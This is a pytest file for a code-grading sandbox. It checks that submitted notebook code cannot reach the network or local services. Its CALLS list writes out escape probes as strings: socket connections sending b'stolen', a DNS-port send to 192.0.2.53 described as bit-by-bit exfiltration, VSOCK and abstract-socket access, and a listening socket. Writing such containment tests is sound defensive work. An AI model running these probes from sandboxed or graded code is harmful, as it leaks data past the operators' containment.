"""Reaching out: what answers outside the wall does not answer behind it, nor hear a word."""

import os
import select
import socket
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

import pytest

from tests.attacks.attack import told
from tests.grader.submissions import HONEST, Desk, printed, scores


@dataclass(frozen=True)
class Call:
    """tries: in one sentence; code: the body of a function that returns a word beginning with GOT
    where something answered, or may raise."""

    name: str
    tries: str
    code: str


CALLS = [
    Call(
        "tcp over ipv4",
        "Connects to a server of the machine over TCP.",
        "return 'GOT' + str(socket.create_connection(({host!r}, {tcp}), 1).send(b'stolen'))",
    ),
    Call(
        "tcp over ipv6",
        "Connects to a server of the machine over IPv6.",
        "return 'GOT' + str(socket.create_connection(('::1', {tcp6}), 1).send(b'stolen'))",
    ),
    Call(
        "udp",
        "Sends a datagram, which needs no connection.",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'stolen', ('127.0.0.1', {udp}))\n"
        "s.settimeout(0.3)\n"
        "return 'GOT ' + str(s.recv(9))",
    ),
    Call(
        "a unix socket",
        "Connects to a service of the machine by its socket file.",
        "s = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\nreturn 'GOT'",
    ),
    Call(
        "an abstract socket",
        "Connects to a service whose socket is no file, as of a desktop's message bus.",
        "s = socket.socket(socket.AF_UNIX)\ns.connect(chr(0) + {abstract!r})\nreturn 'GOT'",
    ),
    Call(
        "the host of a virtual machine",
        "Opens the socket by which a virtual machine talks to its host, in no network namespace.",
        "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\nreturn 'GOT'",
    ),
    Call(
        "the net by name",
        "Asks for the address of a name, over which data can be sent out bit by bit.",
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.connect(('192.0.2.53', 53))\n"
        "s.send(b'stolen')\n"
        "return 'GOT a route to a name server'",
    ),
    Call(
        "the names of this machine",
        "Asks the resolver for the machine's own name.",
        "return 'GOT' + str(socket.getaddrinfo({name!r}, 80, socket.AF_INET))",
    ),
    Call(
        "the machine's interfaces",
        "Lists the network interfaces that the machine has besides the loopback.",
        "names = [name for _, name in socket.if_nameindex() if name != 'lo']\n"
        "return 'GOT' if names else None",
    ),
    Call(
        "a listening socket",
        "Listens on all addresses for somebody to call in, and finds its own address.",
        "s = socket.socket()\n"
        "s.bind(('0.0.0.0', 0))\n"
        "s.listen()\n"
        "c = socket.create_connection(({host!r}, {tcp}), 0.5)\n"
        "return 'GOT'",
    ),
]


@dataclass(frozen=True)
class Servers:
    """Servers of the machine, which must hear nothing."""

    tcp: socket.socket
    tcp6: socket.socket | None
    udp: socket.socket
    path: socket.socket
    abstract: socket.socket

    def fields(self) -> dict[str, object]:
        """Their addresses, for the code of a call."""
        return {
            "host": "127.0.0.1",
            "tcp": self.tcp.getsockname()[1],
            "tcp6": self.tcp6.getsockname()[1] if self.tcp6 else 1,
            "udp": self.udp.getsockname()[1],
            "path": self.path.getsockname(),
            "abstract": self.abstract.getsockname()[1:].decode(),
            "name": socket.gethostname(),
        }

    def heard(self) -> list[str]:
        """Who has something to hear."""
        servers = {name: s for name, s in vars(self).items() if s is not None}
        ready, _, _ = select.select(list(servers.values()), [], [], 0)
        return [name for name, server in servers.items() if server in ready]


@pytest.fixture
def servers(tmp_path: Path) -> Iterator[Servers]:
    tcp, udp, path, abstract = (
        _bound(socket.AF_INET, ("127.0.0.1", 0)),
        _bound(socket.AF_INET, ("127.0.0.1", 0), socket.SOCK_DGRAM),
        _bound(socket.AF_UNIX, str(tmp_path / "s")),
        _bound(socket.AF_UNIX, f"\0attacked-{os.getpid()}"),
    )
    try:
        tcp6 = _bound(socket.AF_INET6, ("::1", 0))
    except OSError:  # a machine without IPv6
        tcp6 = None
    made = Servers(tcp, tcp6, udp, path, abstract)
    yield made
    for server in vars(made).values():
        if server is not None:
            server.close()


def _bound(family: int, address: object, kind: int = socket.SOCK_STREAM) -> socket.socket:
    server = socket.socket(family, kind)
    server.bind(address)  # type: ignore[arg-type]
    if kind == socket.SOCK_STREAM:
        server.listen()
    return server


def reaches_outside(body: str) -> bool:
    """Whether the call gets through where there is no wall."""
    code = f"import socket\ndef call():\n{_indented(body)}\nprint(call())"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    # A datagram is not answered here; that it could be sent is enough.
    return ran.stdout.startswith("GOT") or "TimeoutError" in ran.stderr


def _indented(body: str) -> str:
    return "".join(f"    {line}\n" for line in dedent(body).splitlines())


@pytest.mark.parametrize("call", CALLS, ids=lambda c: c.name.replace(" ", "-"))
def test_nothing_is_reached(call: Call, desk: Desk, servers: Servers) -> None:
    body = call.code.format(**servers.fields())
    function = f"import socket\ndef conv2d_naive(x, w):\n{_indented(body)}"
    in_a_cell = f"print('tried')\nimport socket\ndef call():\n{_indented(body)}\nprint(call())"
    result = desk.grade(desk.notebook(in_a_cell, conv2d_naive=function))
    assert printed(result).startswith("tried")
    assert "GOT" not in printed(result)
    assert "your answer is a string" not in told(result)
    assert servers.heard() == []
    assert scores(result) == HONEST
    if not reaches_outside(body):
        pytest.skip("this machine reaches nothing there itself")
